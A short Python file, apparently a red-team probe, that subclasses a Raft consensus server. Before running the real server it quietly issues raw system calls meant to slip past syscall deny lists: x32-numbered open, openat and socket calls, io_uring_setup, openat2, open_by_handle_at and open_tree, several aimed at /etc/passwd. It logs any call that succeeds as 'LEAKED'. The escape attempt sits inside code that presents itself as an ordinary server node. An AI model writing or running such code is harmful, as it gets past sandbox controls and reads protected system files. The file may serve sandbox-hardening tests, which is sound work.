"""Makes system calls in the ways that filters forget: the x32 numbers, the 32-bit entry, io_uring, vfork.

Idea: known gaps of deny lists.
Verdict: NotWritten: not written yet: start
"""

import sys

from elected import Raft as Server


class Raft(Server):
    async def run(self):
        ctypes = sys.modules.get("ctypes") or sys.modules["builtins"].__import__("ctypes")
        libc = ctypes.CDLL(None, use_errno=True)
        for number, *arguments in (
            (0x40000000 | 2, b"/etc/passwd", 0),
            (0x40000000 | 257, -100, b"/etc/passwd", 0),
            (0x40000000 | 41, 2, 1, 0),
            (425, 8, ctypes.create_string_buffer(200)),
            (437, -100, b"/etc/passwd", ctypes.create_string_buffer(24), 24),
            (304, -100, ctypes.create_string_buffer(200), 0),
            (428, -100, b"/", 0),
        ):
            answer = libc.syscall(number, *arguments)
            if answer >= 0:
                self.node.note(f"LEAKED call {number:x} gave {answer}")
        await super().run()
